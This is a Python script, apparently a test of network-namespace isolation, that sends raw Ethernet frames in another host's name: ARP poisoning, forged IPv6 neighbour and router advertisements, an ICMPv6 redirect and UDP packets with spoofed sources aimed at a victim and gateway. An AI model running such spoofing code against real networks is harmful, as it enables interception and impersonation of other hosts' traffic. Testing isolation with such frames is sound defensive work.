# Sends what a hostile root of an attached namespace would: raw frames in another's name. Arguments: own MAC, IPv4, IPv6; the victim's MAC,
# IPv4, IPv6; the gateway's IPv4, IPv6, MAC.
import socket
import struct
import sys

own_mac, own4, own6, victim_mac, victim4, victim6, gateway4, gateway6, gateway_mac = sys.argv[1:]
mac = lambda text: bytes.fromhex(text.replace(":", ""))
v4 = socket.inet_aton
v6 = lambda text: socket.inet_pton(socket.AF_INET6, text)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
everyone, gateway = b"\xff" * 6, mac(gateway_mac)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(source, kind, payload):
    for to in (everyone, gateway):
        s.send(to + mac(source) + struct.pack("!H", kind) + payload)


def arp(sender, operation, sender_mac, address, target=gateway4):
    frame(sender, 0x0806, struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac(sender_mac) + v4(address) + everyone + v4(target))


def udp4(sender, address):
    data = struct.pack("!HHHH", 4000, 4000, 13, 0) + b"spoof"
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(data), 1, 0, 64, 17, 0) + v4(address) + v4("192.0.2.80")
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    frame(sender, 0x0800, head + data)


def ip6(sender, source, target, kind, data, first=b"", hops=64):
    pseudo = v6(source) + v6(target) + struct.pack("!IHBB", len(data), 0, 0, kind)
    at = 2 if kind == 58 else 6
    data = data[:at] + struct.pack("!H", checksum(pseudo + data)) + data[at + 2 :]
    body = (struct.pack("!BB", kind, 0) + first if first else b"") + data
    frame(sender, 0x86DD, struct.pack("!IHBB", 6 << 28, len(body), 0 if first else kind, hops) + v6(source) + v6(target) + body)


def udp6(sender, source):
    ip6(sender, source, "2001:db8:80::80", 17, struct.pack("!HHHH", 4000, 4000, 13, 0) + b"spoof")


def advertisement(sender, source, target, first=b""):
    ip6(sender, source, gateway6, 58, struct.pack("!BBHI", 136, 0, 0, 0x60000000) + v6(target) + b"\2\1" + mac(own_mac), first, 255)


# The victim's addresses are here; with the own MAC, with the victim's, in the payload alone.
for operation in (1, 2):
    for sender in (own_mac, victim_mac):
        arp(sender, operation, own_mac, victim4)
        arp(sender, operation, own_mac, gateway4, victim4)
    arp(own_mac, operation, victim_mac, own4)
padding = b"\1\4\0\0\0\0"
for sender in (own_mac, victim_mac):
    for first in (b"", padding):
        for source in (own6, victim6, "fe80::2"):
            advertisement(sender, source, victim6, first)
            advertisement(sender, source, gateway6, first)
    # A router's advertisement and redirect.
    ip6(sender, own6, "ff02::1", 58, struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0), b"", 255)
    ip6(sender, own6, gateway6, 58, struct.pack("!BBHI", 137, 0, 0, 0) + v6(own6) + v6(victim6), b"", 255)
    udp4(sender, victim4)
    udp6(sender, victim6)
udp4(victim_mac, own4)
udp6(victim_mac, own6)
udp4(own_mac, "192.0.2.81")
udp6(own_mac, "2001:db8:80::99")
